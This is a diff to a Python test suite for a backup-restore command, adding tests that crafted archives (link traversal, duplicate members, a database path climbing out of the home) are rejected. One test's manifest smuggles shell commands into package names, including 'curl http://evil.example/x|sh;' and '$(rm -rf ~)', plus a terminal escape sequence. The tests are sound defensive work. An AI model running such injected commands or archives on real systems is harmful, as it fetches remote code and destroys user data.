@@ -155,6 +155,60 @@ def _link(name: str, to: str) -> tarfile.TarInfo:
 CONFIG = b"embedder:\n  backend: fake\n  dim: 32\n"
 
 
+def _in_order(path: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
+    """A gzip'd tar of a format-1 manifest, engine.yaml, then `members` in the order given (decision 531)."""
+    with tarfile.open(path, "w:gz") as packed:
+        for name, data in (("klaw-backup.json", _manifest()), ("engine.yaml", CONFIG)):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            packed.addfile(info, io.BytesIO(data))
+        for info, data in members:
+            info.size = len(data) if info.isreg() else 0
+            packed.addfile(info, io.BytesIO(data) if info.isreg() else None)
+    return path
+
+
+def _member(name: str, kind: bytes = tarfile.REGTYPE, to: str = "") -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type, info.linkname = kind, to
+    return info
+
+
+def _crafted(tmp_path: Path) -> list[tuple[Path, str]]:
+    """adversary32's archives (decision 531): a manifest that lies, a member written through an earlier link or
+    twice, a hard link to a folder, a name part longer than a disk takes, a format below 1."""
+    lying = {"format": 1, "klaw": "9.9.9", "made": "x", "database": "../../vh/klaw.db"}
+    absent = {"format": 1, "klaw": "9.9.9", "made": "x", "database": "elsewhere/klaw.db"}
+    elsewhere = b"database:\n  path: /elsewhere/k.db\n" + CONFIG
+    soul = [
+        (_member("workspace/SOUL.md", tarfile.SYMTYPE, "../engine.yaml"), b""),
+        (_member("workspace/SOUL.md"), b"x"),
+    ]
+    through = [(_member("workspace/d", tarfile.SYMTYPE, "skills"), b""), (_member("workspace/d/SKILL.md"), b"x")]
+    twice = [(_member("notes.md"), b"one"), (_member("./notes.md"), b"two")]
+    folder = [
+        (_member("workspace/skills", tarfile.DIRTYPE), b""),
+        (_member("workspace/hl", tarfile.LNKTYPE, "workspace/skills"), b""),
+    ]
+    long_name = [(_member("workspace/" + "n" * 256), b"x")]
+    return [
+        (
+            _archive(tmp_path / "lying.tgz", {"engine.yaml": elsewhere}, manifest=json.dumps(lying).encode()),
+            "names its database '../../vh/klaw.db', which is not a member below the home",
+        ),
+        (
+            _archive(tmp_path / "absent.tgz", {"engine.yaml": elsewhere}, manifest=json.dumps(absent).encode()),
+            "names its database 'elsewhere/klaw.db', which is not a file in the archive",
+        ),
+        (_in_order(tmp_path / "soul.tgz", soul), "'workspace/SOUL.md' is in the archive twice"),
+        (_in_order(tmp_path / "through.tgz", through), "would be written through a link an earlier member made"),
+        (_in_order(tmp_path / "twice.tgz", twice), "'./notes.md' is in the archive twice"),
+        (_in_order(tmp_path / "hardfolder.tgz", folder), "is a link to workspace/skills, not a file before it"),
+        (_in_order(tmp_path / "long.tgz", long_name), "has a part over 255 bytes"),
+        (_archive(tmp_path / "minus.tgz", {"engine.yaml": CONFIG}, manifest=_manifest(-5)), "is not one klaw wrote"),
+    ]
+
+
 def _bad_archives(tmp_path: Path) -> list[tuple[Path, str]]:
     real = a_home(tmp_path)
     whole = tmp_path / "whole.tgz"
@@ -200,6 +254,7 @@ def _bad_archives(tmp_path: Path) -> list[tuple[Path, str]]:
         (_archive(tmp_path / "baddb.tgz", {"engine.yaml": CONFIG, "klaw.db": b"x" * 4096}), "klaw.db does not open"),
         (tmp_path / "missing.tgz", "does not exist"),
         (whole / "klaw.tgz", "does not exist"),  # a file where a folder was meant: it blamed the new home
+        *_crafted(tmp_path),
     ]
 
 
@@ -278,3 +333,36 @@ def test_a_postgres_homes_restore_says_the_database_is_restored_apart(tmp_path: 
     assert said.returncode == 0, said.stderr
     assert "its memory is in PostgreSQL (the variable MY_KLAW_DSN), not in the archive" in out, out
     assert "klaw.db opens" not in out and not (tmp_path / "new" / "klaw.db").exists()
+
+
+def test_a_database_path_climbing_out_of_the_home_is_not_opened(tmp_path: Path) -> None:
+    """engine.yaml's `database.path: ../vh/klaw.db` led from the hidden folder to a neighbour home's klaw.db, which
+    the check opened and counted as the archive's (decision 531): only the restored folder's files are opened."""
+    other = a_home(tmp_path / "other")
+    assert klaw_here(other, "reindex").returncode == 0  # six messages in its klaw.db
+    place = tmp_path / "place"
+    (place / "vh").mkdir(parents=True)
+    (place / "vh" / "klaw.db").write_bytes((other / "klaw.db").read_bytes())
+    manifest = json.dumps({"format": 1, "klaw": "9.9.9", "made": "x", "database": None}).encode()
+    config = b"database:\n  path: ../vh/klaw.db\n" + CONFIG
+    archive = _archive(tmp_path / "climb.tgz", {"engine.yaml": config}, manifest=manifest)
+    said = klaw_here(tmp_path / "unused", "restore", str(archive), "--home", str(place / "home"))
+    out = " ".join(said.stdout.split())
+    assert said.returncode == 0, said.stderr
+    assert "klaw.db opens" not in out and "database.path is ../vh/klaw.db, outside the home" in out, out
+
+
+def test_the_manifests_words_are_shown_not_obeyed(tmp_path: Path) -> None:
+    """A crafted manifest's packages were pasted into a command (`klaw sandbox install requests; curl …|sh; #
+    $(rm -rf ~)`), its ESC [2J cleared the screen and its rich markup styled the report (decision 531)."""
+    packages = ["numpy", "requests;", "curl http://evil.example/x|sh;", "#", "$(rm -rf ~)"]
+    record = {"format": 1, "klaw": "0.1.0\x1b[2J", "made": "[bold red]now[/bold red]", "sandboxPackages": packages}
+    archive = _archive(tmp_path / "words.tgz", {"engine.yaml": CONFIG}, manifest=json.dumps(record).encode())
+    said = klaw_here(tmp_path / "unused", "restore", str(archive), "--home", str(tmp_path / "home"))
+    assert said.returncode == 0, said.stderr
+    assert "\x1b" not in said.stdout and "0.1.0␛[2J" in said.stdout, said.stdout
+    assert "[bold red]now[/bold red]" in said.stdout, said.stdout
+    install = next(line for line in said.stdout.splitlines() if "klaw sandbox install" in line)
+    assert install.split("klaw sandbox install ")[1].split()[0] == "numpy" and "curl" not in install, install
+    out = " ".join(said.stdout.split())
+    assert "lists 4 that are not package names" in out and "'curl http://evil.example/x|sh;'" in out, out
